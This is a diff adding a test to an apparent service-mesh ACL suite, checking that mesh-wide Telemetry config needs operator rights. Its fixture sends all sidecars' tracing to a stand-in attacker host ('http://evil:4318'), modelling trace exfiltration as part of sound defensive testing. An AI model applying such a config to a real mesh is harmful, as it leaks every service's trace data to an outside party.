@@ -299,6 +299,30 @@ def test_service_node_and_config_rules(server):
     assert s.request("GET", "/v1/config/Route/web")[0] == 404
 
 
+def test_a_mesh_wide_telemetry_takes_operator_rights(server):
+    """Telemetry for service "*" reaches every namespace's sidecars (where
+    their spans go): writing or deleting one takes operator:write, not only
+    config:write on its own name."""
+    s = server()
+    policy(s, "telemetry", {"config_prefix": {"Telemetry/": {"policy": "write"}}})
+    tok, _ = new_token(s, "telemetry")
+    wide = "kind: Telemetry\nmetadata: {name: mesh}\nspec: {service: '*', tracing: {otlp: 'http://evil:4318'}}\n"
+    own = "kind: Telemetry\nmetadata: {name: mesh}\nspec: {service: web, tracing: {otlp: 'http://c:4318'}}\n"
+    status, _, body = s.request("PUT", "/v1/config/Telemetry/mesh", wide, token=tok)
+    assert status == 403 and "operator:write" in body and "mesh-wide Telemetry" in body, (status, body)
+    r = s.ctl("apply", "-f", "-", input=wide, token=tok)
+    assert r.returncode != 0 and "operator:write" in r.stderr, r.stdout + r.stderr
+    assert s.request("PUT", "/v1/config/Telemetry/web", own.replace("name: mesh", "name: web"), token=tok)[0] == 200
+    # The operator's mesh-wide one can be neither replaced by a service's
+    # nor deleted with that token.
+    assert s.request("PUT", "/v1/config/Telemetry/mesh", wide)[0] == 200
+    status, _, body = s.request("PUT", "/v1/config/Telemetry/mesh", own, token=tok)
+    assert status == 403 and "operator:write" in body, (status, body)
+    status, _, body = s.request("DELETE", "/v1/config/Telemetry/mesh", token=tok)
+    assert status == 403 and "operator:write" in body, (status, body)
+    assert s.request("DELETE", "/v1/config/Telemetry/web", token=tok)[0] == 200
+
+
 def test_lists_show_only_what_the_token_may_read(server):
     """Consul's ACL filtering: a list answers 200 with the entries the
     token may read, and says in a header that some were left out."""
